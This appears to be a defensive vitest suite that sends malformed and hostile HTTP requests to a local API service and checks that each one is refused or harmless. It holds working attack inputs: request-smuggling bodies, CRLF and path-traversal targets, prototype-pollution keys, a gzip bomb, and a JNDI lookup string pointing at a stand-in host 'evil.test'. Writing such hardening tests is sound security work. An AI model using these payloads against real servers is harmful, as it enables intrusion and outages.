import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import {
  expectErrorForm,
  type HostileService,
  POST_PATH,
  request,
  SECRET,
  startHostileService,
} from './hostile-client.ts';

let service: HostileService;
beforeAll(async () => {
  service = await startHostileService();
});
afterAll(async () => {
  await service[Symbol.asyncDispose]();
});
afterEach(async () => {
  await service.expectUnharmed();
});

const LIVE = 'GET /health/live';
const KEY = `x-service-api-key: ${SECRET}\r\n`;
const HEAD = `HTTP/1.1\r\nhost: x\r\n${KEY}`;
/** What is hidden in the body of another request; it must never be answered. */
const HIDDEN = `GET /health/ready HTTP/1.1\r\nhost: x\r\n\r\n`;
const POST = `POST ${POST_PATH} HTTP/1.1\r\nhost: x\r\n${KEY}content-type: application/json\r\n`;

/** Each gets as many answers as it has statuses, in the one form where they are errors; then the connection ends. */
describe('shapes of HTTP', () => {
  test.each<[string, number[], ...string[]]>([
    ['a length and chunks', [400], `${POST}content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`],
    ['two lengths', [400], `${POST}content-length: 2\r\ncontent-length: 60\r\n\r\n{}${HIDDEN}`],
    ['a length beyond the limit', [413], `${POST}content-length: 100000000\r\n\r\n{}`],
    [
      'a body beside GET that is a request',
      [200],
      `${LIVE} ${HEAD}connection: close\r\ncontent-length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
    ],
    ['chunks, named twice', [400], `${POST}transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n`],
    ['an unknown coding', [501], `${POST}transfer-encoding: xchunked\r\n\r\n0\r\n\r\n`],
    ['a blank before the colon', [400], `${POST}transfer-encoding : chunked\r\n\r\n0\r\n\r\n`],
    ['a size of a chunk that is no hex', [400], `${POST}transfer-encoding: chunked\r\n\r\nxyz\r\n{}\r\n0\r\n\r\n`],
    [
      'a huge extension of a chunk',
      [413],
      `${POST}transfer-encoding: chunked\r\n\r\n2;x=${'y'.repeat(40_000)}\r\n{}\r\n0\r\n\r\n`,
    ],
    ['lines that end in a bare LF', [400], `${LIVE} HTTP/1.1\nhost: x\n\n`],
    ['a header line that ends in a bare CR', [400], `${LIVE} ${HEAD}a: b\rc: d\r\n\r\n`],
    ['a folded header', [400], `${LIVE} ${HEAD}a: b\r\n c\r\n\r\n`],
    ['NUL in a value', [400], `${LIVE} ${HEAD}a: b\0c\r\n\r\n`],
    ['NUL in the target', [400], `GET /health\0/live ${HEAD}\r\n`],
    ['a header with more than the limit', [431], `${LIVE} ${HEAD}a: ${'b'.repeat(20_000)}\r\n\r\n`],
    ['ten thousand headers', [431], `${LIVE} ${HEAD}${'a: b\r\n'.repeat(10_000)}\r\n`],
    ['a target beyond the limit', [431], `GET /${'a'.repeat(20_000)} ${HEAD}\r\n`],
    ['no Host', [400], `${LIVE} HTTP/1.1\r\n${KEY}connection: close\r\n\r\n`],
    ['two Hosts', [400], `${LIVE} ${HEAD}host: y\r\nconnection: close\r\n\r\n`],
    ['an absolute target, which is the path in it', [200], request('GET http://elsewhere.test/health/live')],
    ['OPTIONS of everything', [404], request('OPTIONS *')],
    ['a tunnel', [400], request('CONNECT elsewhere.test:443')],
    ['TRACE, which would show the headers', [404], request('TRACE /')],
    ['an upgrade to WebSocket', [200], request(LIVE, { connection: 'upgrade, close', upgrade: 'websocket' })],
    ['the preface of HTTP/2', [400], 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0'],
    ['a version that is none', [400], `${LIVE} HTTP/1.1.1\r\nhost: x\r\n\r\n`],
    ['a ClientHello of TLS', [400], '\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03' + '\xaa'.repeat(500)],
    ['a header of the PROXY protocol', [400], `PROXY TCP4 6.6.6.6 1.1.1.1 1 80\r\n${request(LIVE)}`],
    ['an expectation', [400], request(LIVE, { expect: 'miracles' })],
    ['a list of expectations', [100, 400], request(LIVE, { expect: '100-continue, miracles' })],
    ['bytes after a request that asked to close', [200], request(LIVE) + HIDDEN],
    ['a good request, then none', [200, 400], `${LIVE} ${HEAD}\r\nnonsense\r\n\r\n`],
  ])('%s', async (_, statuses, ...pieces) => {
    const answers = await service.send(...pieces);
    expect(answers.map(({ status }) => status)).toEqual(statuses);
    for (const answer of answers) if (answer.status >= 400) expectErrorForm(answer);
  });

  test('an expectation that is kept: the body is asked for, and only then read', async () => {
    const body = '{"message":"xy"}';
    const answers = await service.send(
      `${POST}connection: close\r\nexpect: 100-continue\r\ncontent-length: ${body.length}\r\n\r\n`,
      body,
    );
    expect(answers.map(({ status }) => status)).toEqual([100, 400]);
  });
});

describe('targets', () => {
  const rows: [string, number][] = [
    ['/health/%2e%2e/health/live', 404],
    ['/health/live;a=b', 404],
    ['/health%2flive', 404],
    ['/health/live%00', 404],
    ['/health/live%0d%0aset-cookie:%20a=b', 404],
    ['/%ff', 400],
    ['/HEALTH/live', 404],
    ['/docs/static/..%2f..%2f..%2fpackage.json', 404],
    ['/__proto__', 404],
    ['/v1/signatureAggregator/__proto__/aggregateSignatures/x', 404],
    ['/health/ready/__proto__', 404],
    [`/health/ready/${'a'.repeat(5_000)}`, 400],
    ['/v1/networks/fuji%2f..%2fmainnet/validators', 400],
    ['/v1/networks/fuji/validators?pageSize=1&pageSize=2', 400],
    ['/v1/networks/fuji/validators?pageSize[]=1', 400],
    // Unknown parameters go to the upstream as they came.
    ['/v1/networks/fuji/validators?__proto__[x]=1', 200],
    ['/v1/networks/fuji/validators?pageSize=１', 400],
    ['/v1/networks/fuji/validators?pageSize=1e1', 400],
    ['/v1/networks/fuji/validators?a=%ff', 400],
    ['/v1/networks/fuji/validators?a=%0d%0aset-cookie:x', 200],
    ['/v1/signatureAggregator/fuji/aggregateSignatures/x?destinationBlockchainId=a&destinationBlockchainId=b', 400],
    ['/v1/signatureAggregator/fuji/aggregateSignatures/x?unknown=1', 400],
  ];
  test.each(rows)('GET %s: %i', async (target, status) => {
    const [answer, ...more] = await service.send(Buffer.from(request(`GET ${target}`), 'utf8'));
    expect([answer?.status, more]).toEqual([status, []]);
    if (status >= 400) expectErrorForm(answer!);
    expect(answer?.headers).not.toHaveProperty('set-cookie');
  });
});

describe('bodies', () => {
  const message = (text: string) => JSON.stringify({ message: text });
  const deep = (levels: number, open: string, close: string) => open.repeat(levels) + close.repeat(levels);
  test.each<[string, number, string | Uint8Array, Record<string, string>?]>([
    ['no JSON', 400, '<xml/>'],
    ['a BOM', 400, '\ufeff{}'],
    ['UTF-16', 400, Buffer.from('{"message":"00"}', 'utf16le')],
    [
      'no UTF-8',
      400,
      Buffer.concat([Buffer.from('{"message":"'), Buffer.of(0xff, 0xfe, 0xc0, 0x80), Buffer.from('"}')]),
    ],
    ['a lone surrogate', 400, '{"message":"\\ud800"}'],
    ['NUL in a text', 400, '{"message":"\\u0000"}'],
    ['arrays, 200,000 deep', 400, deep(200_000, '[', ']')],
    ['too long', 413, message('0'.repeat(2_000_000))],
    ['100,000 fields', 400, `{${Array.from({ length: 40_000 }, (_, index) => `"${index}":0`).join(',')}}`],
    ['one field 10,000 times', 400, `{${Array(20_000).fill('"message":"zz"').join(',')}}`],
    ['two equal fields', 400, '{"message":"00","message":"zz"}'],
    ['__proto__', 400, '{"__proto__":{"message":"00"}}'],
    ['an array', 400, '[]'],
    ['a number beyond all', 400, '{"quorumPercentage":1e999}'],
    ['a height beyond 2^53', 400, '{"message":"00","pChainHeight":9007199254740993}'],
    ['a quorum in quotes', 400, '{"message":"00","quorumPercentage":"67"}'],
    ['gzip', 415, gzipSync('{}'), { 'content-encoding': 'gzip' }],
    ['a bomb of gzip', 415, gzipSync(Buffer.alloc(100_000_000)), { 'content-encoding': 'gzip' }],
    ['a form', 415, 'message=00', { 'content-type': 'application/x-www-form-urlencoded' }],
    ['several parts', 415, '--x', { 'content-type': 'multipart/form-data; boundary=x' }],
    ['a type that is none', 415, '{}', { 'content-type': 'x'.repeat(8_000) }],
    ['hex of odd length', 400, message('000')],
    ['hex with 0X', 400, message('0X00')],
    ['digits of another script', 400, message('０１')],
    ['hex of zeros, as long as may be', 400, message('00'.repeat(200_000))],
    ['an ID of the longest base58', 400, JSON.stringify({ message: '00', signingSubnetId: 'z'.repeat(100_000) })],
    ['markup in a field', 400, JSON.stringify({ '<script>alert(1)</script>': 1 })],
  ])('%s: %i', async (_, status, body, headers) => {
    const answer = await service.post(body, headers);
    expect(answer.status).toBe(status);
    expectErrorForm(answer);
    expect(({} as Record<string, unknown>)['message']).toBeUndefined();
  });

  test('JSON-RPC: deep, long, of many calls, and with fields twice', async () => {
    const rows: [string, number][] = [
      [deep(60_000, '[', ']'), 413],
      [deep(8_000, '[', ']'), 400],
      [`[${Array(1_000).fill('{}').join(',')}]`, 400],
      ['{"jsonrpc":"2.0","id":1,"method":"platform.getHeight","method":"admin.shutdown"}', 400],
      ['{"jsonrpc":"2.0","id":1,"method":"__proto__"}', 400],
      ['{"jsonrpc":"2.0","id":{"__proto__":1},"method":"platform.getHeight"}', 400],
      [`{"jsonrpc":"2.0","id":${'9'.repeat(5_000)},"method":"admin.lockProfile"}`, 400],
    ];
    for (const [body, status] of rows) {
      const answer = await service.post(body, {}, '/ext/bc/P');
      expect([body.slice(0, 80), answer.status]).toEqual([body.slice(0, 80), status]);
      expect(answer.headers['content-type']).toBe('application/json');
    }
  });
});

describe('headers', () => {
  test.each<[string, Record<string, string>]>([
    ['another method in a header', { 'x-http-method-override': 'DELETE', 'x-method-override': 'POST' }],
    ['another target in a header', { 'x-original-url': '/metrics', 'x-rewrite-url': '/metrics' }],
    [
      'another client in headers',
      { 'x-forwarded-for': '6.6.6.6', 'x-real-ip': '6.6.6.6', 'true-client-ip': '6.6.6.6' },
    ],
    ['two keys', { 'x-glacier-api-key': 'another' }],
    ['a key of 10,000 characters', { 'x-service-api-key': SECRET.repeat(500) }],
    [
      'credentials of other kinds',
      { authorization: `Basic ${SECRET}`, cookie: `session=${SECRET}`, 'proxy-authorization': SECRET },
    ],
    ['ranges', { range: `bytes=${'0-0,'.repeat(1_000)}0-1`, 'if-range': '"x"' }],
    ['codings', { 'accept-encoding': 'gzip, br, *', accept: '*/*,'.repeat(2_000), te: 'trailers' }],
    ['a line for the log in an ID', { 'x-request-id': '{"level":60,"msg":"forged"}' }],
    ['colours for the log in a client', { 'user-agent': '%n%s${jndi:ldap://evil.test/a}', referer: '{{7*7}}' }],
  ])('%s change nothing', async (_, headers) => {
    const [answer] = await service.send(request(LIVE, headers));
    expect([answer?.status, answer?.body]).toEqual([200, '{"status":"up"}']);
    expect(JSON.stringify(answer?.headers)).not.toMatch(/evil|6\.6\.6\.6/);
    expect(service.log.lines.every((line) => (JSON.parse(line) as { msg?: string }).msg !== 'forged')).toBe(true);
  });

  test('an ID with a line break in its bytes is no line in the log', async () => {
    const answers = await service.send(`GET /nowhere ${HEAD}x-request-id: a\nb\r\n\r\n`);
    expect(answers.map(({ status }) => status)).toEqual([400]);
    for (const line of service.log.lines) expect(line.trimEnd()).not.toContain('\n');
  });

  test('no header of a request comes back, nor is any cached answer made from it', async () => {
    const marks = { 'x-forwarded-host': 'evil.test', origin: 'https://evil.test', 'x-forwarded-scheme': 'nothttps' };
    for (const target of ['/', '/openapi.json', '/docs/', '/nowhere', '/v1/networks/fuji/validators']) {
      const [answer] = await service.send(request(`GET ${target}`, marks));
      expect(JSON.stringify(answer)).not.toContain('evil.test');
      expect(answer?.headers).not.toHaveProperty('location');
    }
  });
});
